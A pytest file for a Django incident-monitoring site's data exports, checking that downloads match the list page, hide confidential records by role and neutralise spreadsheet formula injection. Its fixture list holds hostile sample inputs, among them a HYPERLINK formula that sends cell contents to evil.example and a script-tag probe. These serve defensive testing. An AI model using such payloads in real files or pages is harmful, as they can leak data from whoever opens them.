"""Downloads of filtered incident views: the same rows as the list page, only what the visitor may
see, hostile text kept harmless, every format readable by the usual tools (csv, openpyxl, json)."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import re
import zipfile

import pytest
from django.urls import reverse
from lxml import html as lxml_html

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+7 701 000 00 00 called the editor",
    "-2+3 is not a formula",
    "@SUM(1,1) in a headline",
    "\tstarts with a tab",
    "\rstarts with a carriage return",
    'Quotes " and, commas; and\nnew lines',
    "Журналиста «Степного вестника» задержали у здания акимата",
    "<script>alert(1)</script> & ampersand",
]
SECRET_NOTE = "informant K. lives on the third floor"


@pytest.fixture
def data(make_incident, users):
    """Public, draft and confidential incidents, a confidential case, places, secondary categories
    and hostile titles, written for these tests."""
    from speechwatch.incidents.models import Case, IncidentPlace
    from speechwatch.vocab.models import Category, Place

    hidden_case = Case.objects.create(title="Undisclosed case of the informant", is_confidential=True)
    open_case = Case.objects.create(title="Defamation claim against a weekly")
    out = {}
    for i, title in enumerate(HOSTILE):
        out[f"h{i}"] = make_incident(
            title,
            "rights.attack" if i % 2 else "legal.civil",
            registered_month=dt.date(2024, 1 + i % 3, 1),
            date=dt.date(2024, 1 + i % 3, 1 + i),
            summary=HOSTILE[-1 - i],
        )
    out["cased"] = make_incident("Editor sued over an article", "legal.civil", case=open_case)
    out["in_hidden_case"] = make_incident("Public step of a hidden case", "legal.civil", case=hidden_case)
    out["draft"] = make_incident("Unpublished draft about a raid", status="draft")
    out["secret"] = make_incident(
        "Confidential attack on a source", is_confidential=True, confidential_notes=SECRET_NOTE
    )
    out["monitor_own"] = make_incident(
        "Monitor's own confidential draft",
        status="draft",
        is_confidential=True,
        confidential_notes="own note",
        created_by=users["monitor"],
    )
    out["h1"].secondary_categories.add(Category.objects.get(code="rights.pressure"))
    IncidentPlace.objects.create(incident=out["h0"], place=Place.objects.get(name_en="Almaty"))
    IncidentPlace.objects.create(incident=out["h0"], name_as_written="a village near the lake")
    return out


def login(client, users, role):
    if role != "anonymous":
        client.force_login(users[role])
    return client


def download(client, fmt="csv", **params):
    response = client.get(reverse("opendata:incidents", kwargs={"fmt": fmt}), params)
    assert response.status_code == 200, response
    body = b"".join(response.streaming_content) if response.streaming else response.content
    return response, body


def read_csv(body: bytes) -> list[dict[str, str]]:
    assert body.startswith(b"\xef\xbb\xbf")
    return list(csv.DictReader(io.StringIO(body.decode("utf-8-sig"), newline="")))


def list_rows(client, **params) -> list[dict[str, str]]:
    """Every row of the list page for these filters, following its "next" links, read from the HTML:
    id, title, category, places and status as a reader sees them."""
    out: list[dict[str, str]] = []
    page = 1
    while True:
        response = client.get(reverse("web:incident_list"), {**params, "page": page})
        assert response.status_code == 200
        tree = lxml_html.fromstring(response.content.decode())
        table = tree.xpath('//table[contains(concat(" ", @class, " "), " incidents ")]')[0]
        heads = [th.text_content().strip() for th in table.xpath("./thead//th")]
        for tr in table.xpath("./tbody/tr"):
            cells = tr.xpath("./td")
            links = [
                a for a in cells[heads.index("Incident")].xpath(".//a") if re.search(r"/incidents/\d+/$", a.get("href"))
            ]
            if not links:
                continue  # "No incidents."
            row = {
                "id": re.search(r"/incidents/(\d+)/$", links[0].get("href")).group(1),
                "title": links[0].text_content(),
                "category": cells[heads.index("Category")].text_content(),
                "places": cells[heads.index("Place")].text_content(),
            }
            if "Status" in heads:
                row["status_label"] = cells[heads.index("Status")].text_content()
            out.append(row)
        if not tree.xpath('//a[@rel="next"]'):
            return out
        page += 1


def unneutralised(text: str) -> str:
    """The text before the apostrophe was added, with line ends as an HTML parser reads them (a page
    cannot carry a bare carriage return: the parser turns it into a line feed)."""
    if text.startswith("'") and text[1:2] in ("=", "+", "-", "@", "\t", "\r"):
        text = text[1:]
    return text.replace("\r\n", "\n").replace("\r", "\n")


FILTERS = [
    {},
    {"category": "legal"},
    {"category": "rights.attack"},
    {"month": "2024-02"},
    {"region": "almaty_city"},
    {"sort": "title"},  # the list's selectable order is the download's order
    {"sort": "date_asc", "category": "legal"},
]


@pytest.mark.parametrize("role", ["anonymous", "editor", "monitor"])
@pytest.mark.parametrize("filters", FILTERS, ids=lambda f: "&".join(f"{k}={v}" for k, v in f.items()) or "all")
def test_csv_has_the_list_pages_rows(client, users, data, role, filters):
    login(client, users, role)
    expected = list_rows(client, **filters)
    _response, body = download(client, **filters)
    got = [
        {
            "id": r["id"],
            "title": unneutralised(r["title"]),
            "category": r["category"],
            "places": r["places"],
            **({"status_label": r["status_label"]} if role != "anonymous" else {}),
        }
        for r in read_csv(body)
    ]
    assert got == expected
    if filters == {}:
        assert len(got) >= 11  # the fixture's rows are really there


def test_csv_from_list_url_matches_the_data_url(client, data):
    direct = download(client, category="legal")[1]
    response = client.get(reverse("web:incident_list"), {"category": "legal", "format": "csv", "page": "3"})
    assert response.status_code == 200
    assert b"".join(response.streaming_content) == direct
    assert client.get(reverse("web:incident_list"), {"format": "exe"}).status_code == 404


def test_csv_headers_bom_and_licence(client, data):
    response, body = download(client)
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith('attachment; filename="incidents-')
    assert 'rel="license"' in response["Link"] and "creativecommons.org/licenses/by/4.0" in response["Link"]
    assert reverse("opendata:dictionary") in response["Link"]
    assert body[:3] == b"\xef\xbb\xbf"
    header = body.decode("utf-8-sig").splitlines()[0].split(",")
    assert header[:3] == ["id", "url", "title"]
    assert "confidential_notes" not in header and "is_confidential" not in header


def test_licence_is_configurable(client, data, settings):
    settings.SPEECHWATCH_DATA_LICENCE = {"name": "ODbL 1.0", "url": "https://opendatacommons.org/licenses/odbl/1-0/"}
    response, body = download(client, "json")
    assert json.loads(body)["licence"]["name"] == "ODbL 1.0"
    assert "opendatacommons.org" in response["Link"]
    assert "ODbL 1.0" in client.get(reverse("opendata:dictionary")).content.decode()


def test_formula_injection_neutralised_and_text_kept(client, data):
    rows = {r["id"]: r for r in read_csv(download(client)[1])}
    for i, title in enumerate(HOSTILE):
        cell = rows[str(data[f"h{i}"].pk)]["title"]
        if title[0] in "=+-@\t\r":
            assert cell == "'" + title
        else:
            assert cell == title
    for row in rows.values():
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value


def test_anonymous_never_gets_hidden_rows_or_fields(client, data):
    for fmt in ("csv", "json", "geojson", "xlsx"):
        _response, body = download(client, fmt)
        if fmt == "xlsx":  # a zip: search the text of its parts
            with zipfile.ZipFile(io.BytesIO(body)) as z:
                body = b"".join(z.read(name) for name in z.namelist())
            assert b"Public step of a hidden case" in body  # the search does see the text
        assert b"Unpublished draft" not in body
        assert b"Confidential attack" not in body
        assert SECRET_NOTE.encode() not in body
        assert b"Undisclosed case" not in body
    rows = {r["id"]: r for r in read_csv(download(client)[1])}
    hidden_case_row = rows[str(data["in_hidden_case"].pk)]
    assert hidden_case_row["case_id"] == "" and hidden_case_row["case_title"] == ""
    assert rows[str(data["cased"].pk)]["case_title"] == "Defamation claim against a weekly"
    assert {r["status"] for r in rows.values()} == {"published"}


def test_staff_columns_follow_the_role(client, users, data):
    login(client, users, "editor")
    rows = {r["id"]: r for r in read_csv(download(client)[1])}
    assert rows[str(data["secret"].pk)]["confidential_notes"] == SECRET_NOTE
    assert rows[str(data["secret"].pk)]["is_confidential"] == "true"
    assert rows[str(data["in_hidden_case"].pk)]["case_title"] == "Undisclosed case of the informant"
    client.logout()
    login(client, users, "monitor")
    rows = {r["id"]: r for r in read_csv(download(client)[1])}
    assert str(data["secret"].pk) not in rows  # confidential and not theirs
    assert rows[str(data["monitor_own"].pk)]["confidential_notes"] == "own note"
    assert rows[str(data["in_hidden_case"].pk)]["case_title"] == ""
    client.logout()
    login(client, users, "viewer")
    body = download(client)[1]
    assert SECRET_NOTE.encode() not in body and b"own note" not in body


def test_json_is_valid_and_exact(client, data):
    response, body = download(client, "json")
    assert response["Content-Type"].startswith("application/json")
    doc = json.loads(body)
    assert doc["licence"]["name"] == "CC BY 4.0"
    assert doc["columns"][:2] == ["id", "url"]
    by_id = {r["id"]: r for r in doc["incidents"]}
    for i, title in enumerate(HOSTILE):
        row = by_id[data[f"h{i}"].pk]
        assert row["title"] == title  # JSON keeps the text exactly
        assert row["summary"] == HOSTILE[-1 - i]
    h0 = by_id[data["h0"].pk]
    assert h0["places"] == ["Almaty (Almaty)", "a village near the lake"]
    assert h0["regions_now"] == ["almaty_city"]
    assert by_id[data["h1"].pk]["secondary_categories"] == ["rights.pressure"]
    assert [r["id"] for r in doc["incidents"]] == [int(r["id"]) for r in list_rows(client)]


def test_geojson_is_a_feature_collection(client, data):
    response, body = download(client, "geojson")
    assert response["Content-Type"].startswith("application/geo+json")
    doc = json.loads(body)
    assert doc["type"] == "FeatureCollection" and doc["licence"]["name"] == "CC BY 4.0"
    assert len(doc["features"]) == len(list_rows(client))
    for feature in doc["features"]:
        assert feature["type"] == "Feature"
        assert feature["properties"]["id"] == feature["id"]
        geometry = feature["geometry"]
        assert geometry is None or geometry["type"] in ("Point", "MultiPoint")


def test_geojson_points_from_place_coordinates(client, data):
    from speechwatch.web.exports.records import coordinate_fields

    fields = coordinate_fields()
    if fields is None:
        pytest.skip("the codebook's places have no coordinates yet")
    from speechwatch.vocab.models import Place

    Place.objects.filter(name_en="Almaty").update(**{fields[0]: 43.238, fields[1]: 76.889})
    doc = json.loads(download(client, "geojson")[1])
    feature = next(f for f in doc["features"] if f["id"] == data["h0"].pk)
    assert feature["geometry"] == {"type": "Point", "coordinates": [76.889, 43.238]}


def test_xlsx_reads_back_with_openpyxl(client, users, data):
    openpyxl = pytest.importorskip("openpyxl")
    login(client, users, "editor")
    response, body = download(client, "xlsx")
    assert response["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    book = openpyxl.load_workbook(io.BytesIO(body), read_only=False)
    sheet = book["incidents"]
    rows = list(sheet.iter_rows(values_only=True))
    header, rows = list(rows[0]), rows[1:]
    assert header == [c for c in json.loads(download(client, "json")[1])["columns"]]
    assert [r[0] for r in rows] == [int(r["id"]) for r in list_rows(client)]
    # control characters are stored in the OOXML escape _x000D_, which Excel reads back as the character
    from openpyxl.utils.escape import unescape

    titles = {r[0]: unescape(r[header.index("title")]) for r in rows}
    for i, title in enumerate(HOSTILE):
        assert titles[data[f"h{i}"].pk] == title
    for cells in sheet.iter_rows(min_row=2):
        for cell in cells:
            assert cell.data_type != "f", cell.value  # text is never a formula
    notes = {r[0]: r[header.index("confidential_notes")] for r in rows}
    assert notes[data["secret"].pk] == SECRET_NOTE
    about = dict(book["about"].iter_rows(values_only=True))
    assert about["licence"] == "CC BY 4.0"


def test_download_streams_in_chunks(client, users, make_incident, monkeypatch):
    """More rows than one database chunk: every row once, in the list's order."""
    from speechwatch.incidents.models import Incident
    from speechwatch.vocab.models import Category
    from speechwatch.web.exports import records

    monkeypatch.setattr(records, "CHUNK", 7)
    cat = Category.objects.get(code="rights.attack")
    Incident.objects.bulk_create(
        Incident(
            title=f"Bulk incident {i}",
            primary_category=cat,
            registered_month=dt.date(2023, 1 + i % 12, 1),
            date=dt.date(2023, 1 + i % 12, 1 + i % 28),
            status="published",
        )
        for i in range(60)
    )
    response, body = download(client)
    assert response.streaming
    ids = [r["id"] for r in read_csv(body)]
    assert len(ids) == len(set(ids)) == 60
    assert ids == [r["id"] for r in list_rows(client)]
    doc = json.loads(download(client, "json")[1])
    assert [str(r["id"]) for r in doc["incidents"]] == ids


def test_dictionary_page_in_three_languages(client, users, data):
    from speechwatch.web.exports.columns import COLUMNS

    for lang in ("en", "ru", "kk"):
        response = client.get(reverse("opendata:dictionary"), {"category": "legal"}, HTTP_ACCEPT_LANGUAGE=lang)
        assert response.status_code == 200
        page = response.content.decode()
        assert f'lang="{lang}"' in page
        for column in COLUMNS:
            assert (f"<code>{column.key}</code>" in page) is (not column.staff_only)
        assert "CC BY 4.0" in page
        assert "/data/incidents.csv?category=legal" in page
        assert "/embed/counter/?category=legal" in page
        assert "<code>rights.attack</code>" in page and "<code>almaty_city</code>" in page
    login(client, users, "editor")
    assert "<code>confidential_notes</code>" in client.get(reverse("opendata:dictionary")).content.decode()


def test_xlsx_stream_round_trips_awkward_text_and_streams():
    """The workbook writer alone: text that XML cannot carry as is, text that looks like an escape,
    an over-long cell; and its first bytes are out before any row is read."""
    openpyxl = pytest.importorskip("openpyxl")
    from openpyxl.utils.escape import unescape

    from speechwatch.web.exports.xlsx_stream import MAX_CELL, workbook_chunks

    awkward = ["bell\x07 and nul\x00", "typed _x0041_ literally", "cr\r\nlf", "<&>\"'", "é" * (MAX_CELL + 5)]
    consumed = []

    def rows():
        for i, text in enumerate(awkward):
            consumed.append(i)
            yield [i, text, i % 2 == 0, None]

    chunks = workbook_chunks(["n", "text", "even", "empty"], rows(), [("licence", "CC BY 4.0")])
    first = next(chunks)
    assert first.startswith(b"PK") and consumed == []
    body = first + b"".join(chunks)
    with zipfile.ZipFile(io.BytesIO(body)) as z:
        assert z.testzip() is None
    book = openpyxl.load_workbook(io.BytesIO(body))
    got = list(book["incidents"].iter_rows(values_only=True))
    assert got[0] == ("n", "text", "even", "empty")
    assert [r[0] for r in got[1:]] == list(range(len(awkward)))
    assert [r[2] for r in got[1:]] == [True, False, True, False, True]
    assert [unescape(r[1]) for r in got[1:]] == [t[:MAX_CELL] for t in awkward]
    assert book["incidents"]["A1"].font.b
    assert list(book["about"].iter_rows(values_only=True)) == [("licence", "CC BY 4.0")]
